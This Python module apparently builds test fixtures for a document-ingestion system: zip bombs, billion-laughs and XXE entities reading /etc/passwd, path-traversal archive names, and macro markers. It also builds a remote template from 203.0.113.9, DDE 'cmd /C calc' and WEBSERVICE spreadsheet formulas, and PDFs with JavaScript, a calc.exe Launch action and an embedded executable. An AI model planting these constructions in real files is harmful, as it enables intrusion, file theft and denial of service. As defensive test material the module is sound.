# ruff: noqa: E501, ISC004 - bytes of files, not prose
"""A corpus of hostile and broken files, made by code: nothing here is ever opened by anything but the tests."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from giaoban.documents.testing import a_docx, a_pdf, a_picture, a_pptx, an_odt, an_xlsx, assemble

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def packed(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def repacked(content: bytes, put: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """The same packed file with some entries changed or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for entry in before.infolist():
            held = before.read(entry)
            after.writestr(entry, put[entry.filename](held) if entry.filename in put else held)
        for name in put.keys() - set(before.namelist()):
            after.writestr(name, put[name](b""))
    return out.getvalue()


def bomb_docx() -> bytes:
    return repacked(a_docx(2), {"word/media/image9.bmp": lambda _b: b"0" * 300_000_000})


def bomb_of_shared_bytes() -> bytes:
    """Many entries that share the same packed bytes: small file, huge outcome."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = kernel.compress(b"\x00" * 2_000_000) + kernel.flush()
    check = zlib.crc32(b"\x00" * 2_000_000)
    name = b"word/document.xml"
    local = (
        struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, check, len(data), 2_000_000, len(name), 0) + name + data
    )
    entries = b"".join(
        struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, check, len(data), 2_000_000, len(other), 0, 0, 0, 0, 0, 0
        )
        + other
        for other in (b"[Content_Types].xml", *(b"word/d%d.xml" % n for n in range(9)))
    )
    return local + entries + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 10, 10, len(entries), len(local), 0)


def billion_laughs() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    body = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>'
    return repacked(a_docx(1), {"word/document.xml": lambda _b: body.encode()})


def outside_entity() -> bytes:
    body = f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&x; Chu thuong</w:t></w:r></w:p></w:body></w:document>'
    return repacked(a_docx(1), {"word/document.xml": lambda _b: body.encode()})


def climbing_names() -> bytes:
    return repacked(a_docx(1), {"../../../tmp/giaoban-hostile": lambda _b: b"x"})


def macro_docx() -> bytes:
    return repacked(a_docx(1), {"word/vbaProject.bin": lambda _b: b"x"})


def old_macros_xlsx() -> bytes:
    return repacked(an_xlsx(2), {"xl/macrosheets/sheet1.xml": lambda _b: b"<x/>"})


def active_controls_pptx() -> bytes:
    return repacked(a_pptx(1), {"ppt/activeX/activeX1.xml": lambda _b: b"<x/>"})


def macro_odt() -> bytes:
    return repacked(an_odt(), {"Basic/Standard/Module1.xml": lambda _b: b"<x/>"})


def macro_doc() -> bytes:
    names = b"".join(name.encode("utf-16-le").ljust(64, b"\x00") for name in ("WordDocument", "_VBA_PROJECT"))
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + names


def outlook_message() -> bytes:
    names = b"".join(
        n.encode("utf-16-le").ljust(64, b"\x00") for n in ("__properties_version1.0", "__substg1.0_0037001F")
    )
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + names


def remote_template() -> bytes:
    rel = f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="http://203.0.113.9/a.dotm" TargetMode="External"/></Relationships>'
    return repacked(a_docx(1), {"word/_rels/settings.xml.rels": lambda _b: rel.encode()})


def own_template() -> bytes:
    rel = f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{OFFICE}/attachedTemplate" Target="file:///C:\\Users\\an\\Normal.dotm" TargetMode="External"/></Relationships>'
    return repacked(a_docx(1), {"word/_rels/settings.xml.rels": lambda _b: rel.encode()})


def eml() -> bytes:
    return b"Received: from mail (mail [203.0.113.5])\r\n\tby mx\r\nFrom: a@b.vn\r\nTo: c@d.vn\r\nMIME-Version: 1.0\r\n\r\nChao"


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def html_in_a_picture() -> bytes:
    return a_picture("PNG", 300, 300) + b"<script>alert(1)</script>"


def picture_and_zip() -> bytes:
    return a_picture("JPEG", 300, 300) + packed({"a.html": b"<script>alert(1)</script>"})


def active_pdf() -> bytes:
    """Scripts, a program to start, a file inside, a form that sends, a film, a link to another machine; and two good links."""
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >>"
            b" /Names << /JavaScript << /Names [(a) 4 0 R] >> /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>"
            b" /AcroForm << /Fields [] /XFA (xfa) >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
            b" /Annots [7 0 R 8 0 R 9 0 R 10 0 R << /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
            b" /A << /S /Launch /F (calc.exe) /Next [<< /S /JavaScript /JS (app.alert\\(2\\)) >>] >> >>] >>",
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
            b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ90\nendstream",
            b"<< /Type /Annot /Subtype /Link /Rect [10 10 90 90] /A << /S /URI /URI (https://vanban.gov.vn/a) >> >>",
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 110 90 190] /FS 5 0 R >>",
            b"<< /Type /Annot /Subtype /Link /Rect [10 210 90 290] /A << /S /URI /URI (file://203.0.113.9/x.exe) >> >>",
            b"<< /Type /Annot /Subtype /RichMedia /Rect [10 310 90 390] /RichMediaContent << >> >>",
        ]
    )


def billion_pages() -> bytes:
    """A tree whose leaves are the same few nodes again and again: a billion pages in ten objects."""
    nodes = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for depth in range(9):
        kids = b" ".join(b"%d 0 R" % (depth + 3) for _kid in range(10))
        nodes.append(b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, 10 ** (9 - depth)))
    nodes.append(b"<< /Type /Page /Parent 10 0 R /MediaBox [0 0 595 842] >>")
    return assemble(nodes)


def claimed_pages() -> bytes:
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def looping_tree() -> bytes:
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 5 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def drawing_itself() -> bytes:
    stream = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream"
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /XObject << /X 4 0 R >> >> >>",
            stream,
            b"<< /Length 5 >>\nstream\n/X Do\nendstream",
        ]
    )


def deep_arrays() -> bytes:
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 200_000 + b"]" * 200_000 + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def odd_sizes() -> bytes:
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e9 1e9] >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [595 842 0 0] /Rotate 45 >>",
        ]
    )


def swelling_stream() -> bytes:
    """A picture of two billion dots, packed to two megabytes, on an ordinary page."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b"\x00" * 10_000_000) for _part in range(200)) + packer.flush()
    picture = (
        b"<< /Type /XObject /Subtype /Image /Width 50000 /Height 40000 /ColorSpace /DeviceGray /BitsPerComponent 8"
    )
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /XObject << /X 4 0 R >> >> >>",
            picture + b" /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(data), data),
            b"<< /Length 25 >>\nstream\n595 0 0 842 0 0 cm /X Do \nendstream",
        ]
    )


def wide_sheet(columns: int = 10_000) -> bytes:
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Rộng")
        for row in range(3):
            sheet.write_row(row, 0, [f"Cột {column}" for column in range(columns)])
    return out.getvalue()


def linking_sheet(address: str) -> bytes:
    """A workbook that asks another machine, another file and another program for its figures."""
    import xlsxwriter

    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Liên kết")
        sheet.write(0, 0, "Số liệu thu ngân sách")
        sheet.write_formula(1, 0, f'=WEBSERVICE("{address}")')
        sheet.write_formula(2, 0, f"='{address}[a.xlsx]Sheet1'!A1")
        sheet.write_formula(3, 0, "='file:///etc/[passwd]Sheet1'!A1")
        sheet.write_formula(4, 0, '=DDE("cmd";"/C calc";"x")')
        sheet.insert_textbox(6, 0, "Ghi chú")
    return out.getvalue()


def cut_off_pdf() -> bytes:
    content = a_pdf(3)
    return content[: len(content) * 2 // 3]


def many_frames() -> bytes:
    """A TIFF of more frames than we take pages."""
    from PIL import Image

    out = io.BytesIO()
    frames = [Image.new("1", (40, 60), n % 2) for n in range(60)]
    frames[0].save(out, "TIFF", save_all=True, append_images=frames[1:])
    return out.getvalue()
